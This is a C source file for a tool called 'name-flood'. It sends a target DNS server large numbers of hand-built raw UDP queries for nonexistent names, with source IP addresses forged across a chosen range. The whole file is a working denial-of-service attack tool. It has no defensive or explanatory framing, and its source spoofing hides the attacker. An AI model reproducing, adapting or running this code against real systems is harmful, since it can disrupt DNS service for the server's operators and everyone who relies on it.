/*
 * name-flood SERVER COUNT SOURCE STEP SOURCES: asks SERVER (UDP, port 53) COUNT times for names nobody answers for, made by hand, from SOURCE and on by STEP
 * addresses, SOURCES of them again and again.
 * Prints how many the kernel took.
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* Header with one question, and the question: a label of twelve bytes, type A, class IN. */
#define HEADER "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
#define LABEL 12
#define QUERY_LENGTH (12 + 1 + LABEL + 1 + 4)

int main(int argc, char **argv)
{
	struct sockaddr_in server = { .sin_family = AF_INET };
	struct in_addr first;
	const int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	unsigned long taken = 0;

	if (argc != 6 || fd < 0 || inet_pton(AF_INET, argv[1], &server.sin_addr) != 1 || inet_pton(AF_INET, argv[3], &first) != 1 || strtoul(argv[5], NULL, 10) == 0) {
		fputs("usage: name-flood SERVER COUNT SOURCE STEP SOURCES\n", stderr);
		return 64;
	}
	const unsigned long count = strtoul(argv[2], NULL, 10), step = strtoul(argv[4], NULL, 10), sources = strtoul(argv[5], NULL, 10);
	for (unsigned long i = 0; i < count; i++) {
		unsigned char packet[sizeof(struct iphdr) + sizeof(struct udphdr) + QUERY_LENGTH];
		unsigned char *const query = packet + sizeof(struct iphdr) + sizeof(struct udphdr);
		const struct iphdr ip = { .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP, .daddr = server.sin_addr.s_addr,
					  .saddr = htonl((uint32_t)(ntohl(first.s_addr) + i % sources * step)), .tot_len = htons(sizeof packet) };
		/* no checksum: 0 says so (RFC 768) */
		const struct udphdr udp = { .source = htons((uint16_t)(1024 + i % 60000)), .dest = htons(53), .len = htons(sizeof udp + QUERY_LENGTH) };
		char label[LABEL + 2];

		snprintf(label, sizeof label, "%csilent%06lu", LABEL, i % 1000000);
		memcpy(packet, &ip, sizeof ip);
		memcpy(packet + sizeof ip, &udp, sizeof udp);
		memcpy(query, HEADER, 12);
		memcpy(query + 12, label, LABEL + 1);
		memcpy(query + 12 + 1 + LABEL, "\0\0\1\0\1", 5);
		taken += sendto(fd, packet, sizeof packet, 0, (const struct sockaddr *)&server, sizeof server) == (ssize_t)sizeof packet;
	}
	printf("%lu\n", taken);
	return 0;
}
